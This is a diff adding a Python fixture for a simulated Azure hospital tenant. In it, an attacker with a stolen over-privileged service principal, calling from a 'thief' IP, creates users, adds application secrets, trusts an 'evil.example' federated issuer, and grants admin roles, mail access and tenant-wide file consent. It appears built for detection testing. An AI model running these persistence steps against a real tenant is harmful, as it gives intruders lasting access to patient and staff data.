@@ -1,0 +1,113 @@
+"""A thief with a program's secret, who makes more of itself: each move over the services' own protocols."""
+
+import json
+from collections.abc import Mapping
+from typing import Any
+from uuid import uuid4
+
+from shared.domain.actor import Actor, Credential
+from shared.domain.resource import Kind
+from shared.intake.azure_names import principal
+from shared.sandbox.azure import clinic_names as names
+from shared.sandbox.azure.cloud import Cloud
+from shared.sandbox.azure.directory import ADMIN_ROLES, Application, Secret, ServicePrincipal, User
+from shared.sandbox.azure.graph_policies import GRAPH_APP, app_role
+from shared.sandbox.azure.wire import SOURCE_IP, Request
+
+MAY = (
+    "Application.ReadWrite.All",
+    "AppRoleAssignment.ReadWrite.All",
+    "DelegatedPermissionGrant.ReadWrite.All",
+    "RoleManagement.ReadWrite.Directory",
+    "User.ReadWrite.All",
+)
+"""What an over-privileged program of a hospital has in Graph."""
+
+SCOPE = f"/subscriptions/{names.SUBSCRIPTION}"
+READER = "/providers/Microsoft.Authorization/roleDefinitions/acdd72a7-3385-48ef-bd42-f606fba81ae7"
+FOREVER = 2.0**33
+PROGRAM = Actor(
+    credential=Credential.SERVICE_PRINCIPAL,
+    account="",
+    principal=principal(Kind.SERVICE_PRINCIPAL, names.EXPORT_ID),
+    unique_id=names.EXPORT_ID,
+)
+
+
+class Hand:
+    """Somebody's hand at Graph and ARM."""
+
+    def __init__(self, cloud: Cloud, who: User | ServicePrincipal, address: str) -> None:
+        self.cloud, self._who, self._address = cloud, who, address
+
+    def __call__(self, method: str, url: str, content: Mapping[str, object] | None = None) -> Any:  # noqa: ANN401 - whatever JSON says
+        host = "https://" + url.split("/")[2]
+        token = self.cloud.entra.issue(self._who, host, 600).text
+        headers = {"authorization": f"Bearer {token}", "content-type": "application/json", SOURCE_IP: self._address}
+        body = json.dumps(content).encode() if content is not None else b""
+        answer = self.cloud.answer(Request(method, url, headers, body))
+        assert answer.status < 400, answer.body
+        return answer.json() if answer.body else None
+
+    def graph(self, method: str, path: str, content: Mapping[str, object] | None = None) -> Any:  # noqa: ANN401 - the same
+        return self(method, f"https://graph.microsoft.com/v1.0/{path}", content)
+
+    def user(self, name: str = "svc-backup") -> str:
+        profile = {"password": "a-made-up-password-EXAMPLE"}
+        upn = f"{name}@st-brendan.example"
+        asked = {"accountEnabled": True, "displayName": name, "userPrincipalName": upn, "passwordProfile": profile}
+        return str(self.graph("POST", "users", asked)["id"])
+
+    def application(self, name: str = "backup") -> str:
+        """A new application with its service principal, whose id this is."""
+        made = self.graph("POST", "applications", {"displayName": name})
+        return str(self.graph("POST", "servicePrincipals", {"appId": made["appId"]})["id"])
+
+    def secret(self, application: str) -> str:
+        """Another secret for an application, by its key id."""
+        return str(self.graph("POST", f"applications/{application}/addPassword", {"passwordCredential": {}})["keyId"])
+
+    def secret_of_principal(self, holder: str) -> str:
+        return str(self.graph("POST", f"servicePrincipals/{holder}/addPassword", {"passwordCredential": {}})["keyId"])
+
+    def trust(self, application: str) -> str:
+        """Another issuer whose word is taken for the application's."""
+        asked = {"name": "ci", "issuer": "https://evil.example", "subject": "main", "audiences": ["api://AzureADTokenExchange"]}
+        return str(self.graph("POST", f"applications/{application}/federatedIdentityCredentials", asked)["id"])
+
+    def directory_role(self, who: str) -> str:
+        role = ADMIN_ROLES["User Administrator"]
+        self.graph("POST", "roleManagement/directory/roleAssignments", {"principalId": who, "roleDefinitionId": role})
+        return role
+
+    def permission(self, holder: str) -> str:
+        asked = {"principalId": holder, "resourceId": GRAPH_APP, "appRoleId": app_role("Mail.Read")}
+        self.graph("POST", f"servicePrincipals/{holder}/appRoleAssignments", asked)
+        return app_role("Mail.Read")
+
+    def consent(self, holder: str) -> str:
+        asked = {"clientId": holder, "consentType": "AllPrincipals", "resourceId": GRAPH_APP, "scope": "Files.Read.All"}
+        self.graph("POST", "oauth2PermissionGrants", asked)
+        return "Files.Read.All"
+
+    def role(self, who: str, kind: str) -> str:
+        """A role at the subscription; the assignment's id."""
+        made = f"{SCOPE}/providers/Microsoft.Authorization/roleAssignments/{uuid4()}"
+        asked = {"properties": {"roleDefinitionId": READER, "principalId": who, "principalType": kind}}
+        self("PUT", f"https://management.azure.com{made}?api-version=2022-04-01", asked)
+        return made.lower()
+
+
+def empowered(cloud: Cloud) -> Hand:
+    """The clinic's stolen program, with more rights than anybody has looked at."""
+    program = cloud.entra.directory.principals[names.EXPORT_ID]
+    program.permissions |= set(MAY)
+    cloud.rbac.assign(program.id, "User Access Administrator", SCOPE)
+    return Hand(cloud, program, names.THIEF_IP)
+
+
+def portal(cloud: Cloud) -> tuple[Application, ServicePrincipal]:
+    """An application of others, with a secret that its owner uses."""
+    application, holder = cloud.entra.directory.add_application("ward-portal")
+    application.credentials.secrets.append(Secret.of("the-owners-secret-EXAMPLE", 0, FOREVER, key_id="owners"))
+    return application, holder
